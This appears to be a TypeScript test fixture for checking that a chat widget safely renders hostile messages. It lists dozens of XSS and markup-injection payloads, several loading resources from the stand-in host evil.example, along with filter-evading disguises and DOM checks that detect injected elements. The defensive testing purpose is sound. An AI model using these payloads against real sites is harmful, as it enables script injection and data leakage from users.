// Texts that would run something, fetch something, or break out of where they stand, if a page drew them as markup.

const FOREIGN = 'https://evil.example'
const RUN = 'alert(1)'

const attacks = [
  `<script>${RUN}</script>`,
  `<script src="${FOREIGN}/x.js"></script>`,
  `"><script>${RUN}</script>`,
  `'><svg/onload=${RUN}>`,
  `<img src=x onerror=${RUN}>`,
  `<img src="${FOREIGN}/pixel.png">`,
  `<img srcset="${FOREIGN}/pixel.png 1x">`,
  `<svg onload=${RUN}></svg>`,
  `<svg><script>${RUN}</script></svg>`,
  `<svg><animate onbegin=${RUN} attributeName=x dur=1s>`,
  `<svg><use href="${FOREIGN}/x.svg#a"/></svg>`,
  `<math><mtext><table><mglyph><style><img src=x onerror=${RUN}>`,
  `<iframe src="javascript:${RUN}"></iframe>`,
  `<iframe srcdoc="<script>${RUN}</script>"></iframe>`,
  `<iframe src="${FOREIGN}"></iframe>`,
  `<object data="javascript:${RUN}"></object>`,
  `<embed src="${FOREIGN}/x.swf">`,
  `<link rel=stylesheet href="${FOREIGN}/x.css">`,
  `<style>@import '${FOREIGN}/x.css';</style>`,
  `<style>body{background:url(${FOREIGN}/x)}</style>`,
  `<div style="background:url(${FOREIGN}/x)">x</div>`,
  `<base href="${FOREIGN}/">`,
  `<meta http-equiv=refresh content="0;url=${FOREIGN}">`,
  `<form action="${FOREIGN}"><button>Send</button></form>`,
  `<input autofocus onfocus=${RUN}>`,
  `<details open ontoggle=${RUN}>`,
  `<video><source onerror=${RUN}></video>`,
  `<video src="${FOREIGN}/x.mp4" autoplay></video>`,
  `<audio src="${FOREIGN}/x.mp3" autoplay></audio>`,
  `<body onload=${RUN}>`,
  `<marquee onstart=${RUN}>`,
  `<a href="javascript:${RUN}">click</a>`,
  `<a href="java\tscript:${RUN}">click</a>`,
  `<template><script>${RUN}</script></template>`,
  `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`,
  `<textarea><script>${RUN}</script></textarea>`,
  `<!--><img src=x onerror=${RUN}>-->`,
  `<![CDATA[<script>${RUN}</script>]]>`,
  `</p></div></main><script>${RUN}</script>`,
  `[click](javascript:${RUN})`,
  `[click](JaVaScRiPt:${RUN})`,
  `[click](java%0ascript:${RUN})`,
  `[click]( javascript:${RUN})`,
  `[click](data:text/html,<script>${RUN}</script>)`,
  `[click](vbscript:msgbox(1))`,
  `[click](https://bank.example@evil.example)`,
  `[click](https://evil.example" onmouseover="${RUN})`,
  `[click](https://evil.example 'x' onclick=${RUN})`,
  `![picture](${FOREIGN}/pixel.png)`,
  `![picture](javascript:${RUN})`,
  `[![picture](${FOREIGN}/pixel.png)](${FOREIGN})`,
  `<javascript:${RUN}>`,
  `<https://evil.example/"onmouseover=${RUN}>`,
  `https://evil.example/"onmouseover="${RUN}`,
  `https://evil.example/'><script>${RUN}</script>`,
  `javascript:${RUN}`,
  `data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==`,
  '```html\n<script>alert(1)</script>\n```',
  '`<img src=x onerror=alert(1)>`',
  `| a | b |\n|---|---|\n| <script>${RUN}</script> | <img src=x onerror=${RUN}> |`,
  `> <script>${RUN}</script>`,
  `# <img src=x onerror=${RUN}>`,
  `- <svg onload=${RUN}>\n  1. <script>${RUN}</script>`,
  `**<img src=x onerror=${RUN}>**`,
  `{{constructor.constructor('${RUN}')()}}`,
  `\${${RUN}}`,
  `<%= ${RUN} %>`,
  `&lt;script&gt;${RUN}&lt;/script&gt;`,
  `&#60;script&#62;${RUN}&#60;/script&#62;`,
  `\\u003cscript\\u003e${RUN}\\u003c/script\\u003e`,
  `{"__html":"<img src=x onerror=${RUN}>"}`,
  `{"type":"script","props":{"dangerouslySetInnerHTML":{"__html":"<script>${RUN}</script>"}}}`,
  `\u202e<script>${RUN}</script>`,
  `\ufeff<script>${RUN}</script>`,
  `<scr\u0130pt>${RUN}</scr\u0130pt>`,
]

/** The same attack in other clothes: what a filter that looks for the plain one would let through. */
const disguises: ((attack: string) => string)[] = [
  (attack) => attack,
  (attack) => attack.toUpperCase().replaceAll('ALERT(1)', RUN),
  (attack) => `Before ${attack} after`,
  (attack) => `**${attack}** and _${attack}_`,
  (attack) => attack.replaceAll('<', '<\u200b').replaceAll(RUN, 'confirm(1)'),
]

/** More than 300 of them, each a message that may be sent. */
export const hostileTexts: readonly string[] = disguises.flatMap((disguise) => attacks.map(disguise))

/** Some that fit where only a name fits. */
export const hostileNames: readonly string[] = attacks.filter((attack) => attack.length <= 60 && !/[\t\n]/.test(attack))

/** Runs before the page's scripts: whatever an attack would run leaves a mark. */
export const trap = `
  globalThis.ran = []
  for (const name of ['alert', 'confirm', 'prompt']) globalThis[name] = (...args) => { globalThis.ran.push(name) }
  addEventListener('securitypolicyviolation', (event) => globalThis.ran.push('policy ' + event.violatedDirective))`

/** Everything in the page that an attack would have put there, in its own words. */
export const intruders = `(() => {
  const kinds = 'script:not([type=module][src^="/chat/"]),iframe,object,embed,base,form[action],svg script,animate,use,video,audio,source,style,meta[http-equiv],img:not([src^="/"]),link:not([href^="/chat/"]):not([rel=icon])'
  const strange = [...document.querySelectorAll(kinds)].filter((one) => !one.closest('noscript'))
  const handlers = [...document.querySelectorAll('*')].filter((one) => one.getAttributeNames().some((name) => name.startsWith('on')))
  const links = [...document.querySelectorAll('a')].filter((one) => !/^(https?|mailto):$/.test(one.protocol) || one.username !== '' || one.rel !== 'noopener noreferrer nofollow')
  return [...strange, ...handlers, ...links].map((one) => one.outerHTML.slice(0, 200))
})()`

/** The same on a page with the widget: what the page and the button's own tree hold beyond their own few elements. */
export const launcherIntruders = `(() => {
  const host = [...document.documentElement.children].find((one) => one.shadowRoot)
  const strange = [...host.shadowRoot.querySelectorAll('script,img,object,embed,a,video,style[onload],animate,use,form,base')]
  const page = [...document.body.querySelectorAll('script[src^="https:"],img,object,embed,video,svg,form,base,iframe')]
  const handlers = [...document.querySelectorAll('*'), ...host.shadowRoot.querySelectorAll('*')]
    .filter((one) => one.getAttributeNames().some((name) => name.startsWith('on')))
  return [...strange, ...page, ...handlers].map((one) => one.outerHTML.slice(0, 200))
})()`
